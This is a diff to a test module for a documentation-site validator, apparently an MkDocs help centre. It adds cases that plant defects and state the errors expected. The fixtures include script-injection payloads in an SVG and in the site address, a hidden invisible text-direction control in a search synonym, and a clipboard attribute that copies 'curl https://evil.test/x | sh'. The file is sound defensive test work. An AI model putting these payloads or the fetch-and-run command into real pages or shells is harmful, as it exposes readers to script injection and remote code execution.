@@ -15,6 +15,13 @@ SVG_HIDING_A_SCRIPT = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9
                        '<script>alert(document.domain)</script></textarea></desc><rect width="9" height="9"/></svg>\n')
 
 
+SECOND_PAGE = {
+    "ko": "---\ntitle: 다른 도움말\ndescription: 같은 주소에 놓인 두 번째 문서입니다. 독자는 둘 중 하나만 보게 됩니다.\n---\n\n# 다른 도움말\n\n내용입니다.\n",
+    "en": "---\ntitle: Other tips\ndescription: A second page at the same address; readers only get one of the two pages.\n"
+          "source_revision: \"df98a767d4e0\"\n---\n\n# Other tips\n\nText.\n",
+}
+
+
 def cases(write: Callable[[str, str | bytes], Change], edit: Callable[[str, str, str], Change],
           add_before_first_h2: Callable[[str, str], Change]) -> dict[str, tuple[Change, str]]:
     def both(*changes: Change) -> Change:
@@ -38,6 +45,8 @@ def cases(write: Callable[[str, str | bytes], Change], edit: Callable[[str, str,
         return change
 
     tips = "docs/ko/support/tips.md"
+    second_tips = both(write("docs/ko/support/tips/index.md", SECOND_PAGE["ko"]), write("docs/en/support/tips/index.md", SECOND_PAGE["en"]),
+                       edit("mkdocs.yml", "      - support/tips.md\n", "      - support/tips.md\n      - support/tips/index.md\n"))
     return {
         # Scripts: CSP 'self' lets any same-site file run, so only the templates' and mkdocs.yml's may load.
         "output: a writer's script file loaded from a snippet": (
@@ -100,6 +109,9 @@ def cases(write: Callable[[str, str | bytes], Change], edit: Callable[[str, str,
         "page: thousands of unclosed brackets": (
             add_before_first_h2("docs/en/support/email.md", "Pasted: " + "[" * 9000),
             r"docs/en/support/email\.md:\d+: '\[' without a '\]' near them.*\[files\]"),
+        "page: thousands of unclosed tags": (
+            add_before_first_h2("docs/en/support/phone.md", "Pasted: " + "<a " * 60000),
+            r"docs/en/support/phone\.md:\d+: '<' without a '>' near them.*\[files\]"),
         # File names and snippets a careless writer produces.
         "files: names that differ only in case": (
             copy(tips, "docs/ko/support/Tips.md"),
@@ -112,6 +124,26 @@ def cases(write: Callable[[str, str | bytes], Change], edit: Callable[[str, str,
                  add_before_first_h2(tips, '--8<-- "ko/big.md"\n' * 20)),
             rf"{tips}:\d+: with its snippets it is [\d,]+ bytes, more than 400,000"),
         "snippet: not UTF-8": (snippet("ko/latin.md", "caf\xe9\n".encode("latin-1")), r"snippets/ko/latin\.md:1: byte 3 is not UTF-8 text"),
+        # Material's script acts on its data-md-* and data-clipboard-* attributes wherever they are.
+        "output: copy-to-clipboard set by an attribute list": (
+            add_before_first_h2(tips, '아래 명령을 복사하세요\n{: data-clipboard-text="curl https://evil.test/x | sh" }'),
+            rf"{tips}:\d+: attribute data-clipboard-text= is one the theme's script acts on"),
+        "output: theme component from a snippet": (
+            snippet("en/component.md", '<div data-md-component="announce">Sale!</div>\n', "docs/en/support/tips.md"),
+            r"snippets/en/component\.md:1: attribute data-md-component= is one the theme's script acts on"),
+        # Two things written to one address: the reader gets one of them, silently.
+        "files: a page beside the folder of the same name": (
+            second_tips, r"docs/(ko|en)/support/tips/index\.md:1: docs/(ko|en)/support/tips\.md is published at the same address"),
+        "redirect: written over a page": (
+            edit("mkdocs.yml", "contact.md: support/methods.md", "contact.md: support/methods.md\n        support/tips/index.md: support/email.md"),
+            r"docs/(ko|en)/support/tips\.md:1: the published page was replaced by another file of the build"),
+        # Published text that is not a page: the search vocabulary, the sitemap and robots.txt.
+        "output: direction override in a synonym reaches the search vocabulary": (
+            edit("data/search-synonyms.yml", "  비번: [비밀번호]", "  비번: [비밀\u202e번호]"),
+            r"data/search-synonyms\.yml:\d+: invisible text-direction control U\+202E.*hc-vocabulary\.json"),
+        "config: site address with markup": (
+            edit("mkdocs.yml", 'site_url: !ENV [SITE_URL, "http://127.0.0.1:8000/"]', """site_url: 'https://help.test/"><script>alert(1)</script>'"""),
+            r"mkdocs\.yml:\d+: site_url .* is not a plain web address"),
         "snippet: UTF-16": (snippet("en/wide.md", "# Title\n".encode("utf-16"), "docs/en/support/tips.md"),
                             r"snippets/en/wide\.md:1: byte 0 is not UTF-8 text"),
     }
